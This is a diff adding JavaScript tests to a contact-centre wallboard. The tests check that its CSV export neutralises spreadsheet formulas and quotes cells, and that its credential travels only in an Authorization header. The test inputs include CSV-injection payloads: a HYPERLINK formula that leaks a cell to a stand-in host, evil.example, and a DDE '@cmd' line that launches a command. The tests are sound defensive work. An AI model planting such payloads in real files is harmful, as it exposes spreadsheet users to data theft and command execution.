@@ -17,6 +17,7 @@ let rt;
 let browser;
 let page;
 let seeded;
+const sent = []; // the page's requests to the functions
 
 before(async () => {
   emu = await startEmulator({ port: 0 });
@@ -25,6 +26,7 @@ before(async () => {
   rt = await startRuntime({ env: { ...env, ...ENV, TWILIO_FLEX_WORKSPACE_SID: env.WORKSPACE_SID, TWILIO_FLEX_SYNC_SID: env.SYNC_SERVICE_SID, WALLBOARD_KEY: KEY } });
   browser = await launchBrowser({ viewport: { width: 1400, height: 1300 } });
   page = await browser.newPage();
+  page.on('request', (r) => r.url().startsWith(rt.base) && sent.push({ url: r.url(), authorization: r.headers().authorization || null }));
 });
 
 after(async () => {
@@ -125,5 +127,63 @@ test('CSV export matches the series on screen', async () => {
       assert.equal(mine[i].avgWait === '' ? null : Number(mine[i].avgWait), s.avgWait);
       assert.equal(mine[i].serviceLevel30 === '' ? null : Number(mine[i].serviceLevel30), s.serviceLevel['30']);
     });
+  }
+});
+
+test('the CSV cell rule neutralises formulas (OWASP) and quotes per RFC 4180', () => {
+  const { csvCell } = require('../assets/wallboard/csv.js');
+  const cases = [
+    ['=HYPERLINK("http://evil.example/?x="&A1,"Support")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Support"")"`],
+    ['+1+2', `"'+1+2"`],
+    ['-2+3', `"'-2+3"`],
+    ['@SUM(A1)', `"'@SUM(A1)"`],
+    ['\t=1', `"'\t=1"`],
+    ['\r=1', `"'\r=1"`],
+    ['Sales', 'Sales'],
+    ['a,b', '"a,b"'],
+    ['say "hi"', '"say ""hi"""'],
+    ["O'Brien", "O'Brien"],
+    [-3.5, '-3.5'],
+    [0, '0'],
+    [null, ''],
+    [undefined, ''],
+  ];
+  for (const [value, expected] of cases) assert.equal(csvCell(value), expected, JSON.stringify(value));
+});
+
+test('the CSV export writes a formula-like queue name as text, not a live formula', async () => {
+  const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
+  // The queue grouping's rows carry the queue names from TaskRouter; one is given a hostile name.
+  const queueRows = await page.evaluate((name) => {
+    const rows = window.queueHistoryView.answers.queue.series;
+    rows[0].label = name;
+    rows[rows.length - 1].label = '@cmd|" /C calc"!A0';
+    return rows.length;
+  }, evil);
+  assert.ok(queueRows >= 1);
+  const [download] = await Promise.all([page.waitForEvent('download'), page.click('#csv')]);
+  const text = fs.readFileSync(await download.path(), 'utf8');
+  assert.ok(text.includes(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open"")"`), text.split('\n').filter((l) => l.startsWith('queue,')).join('\n'));
+  assert.ok(text.includes(`"'@cmd|"" /C calc""!A0"`));
+  // No cell of the file starts with a formula character (cells split by an RFC 4180 reader).
+  const cells = [];
+  for (const line of text.trim().split('\n')) {
+    for (const m of line.matchAll(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)) {
+      if (m.index === line.length && m[0] === '') break;
+      const raw = m[1];
+      cells.push(raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw);
+    }
+  }
+  assert.ok(cells.length > 100);
+  const live = cells.filter((c) => /^[=+@\t\r]/.test(c) || /^-\D/.test(c));
+  assert.deepEqual(live, [], 'no live formula');
+});
+
+test('the page sends its credential in the Authorization header, never in a URL', () => {
+  const calls = sent.filter((r) => new URL(r.url).pathname === '/queue-history');
+  assert.ok(calls.length > 3, `${calls.length} calls`);
+  for (const r of calls) {
+    assert.equal(r.authorization, `Wallboard ${KEY}`, r.url);
+    assert.doesNotMatch(r.url, /[?&](token|key)=/i, r.url);
   }
 });
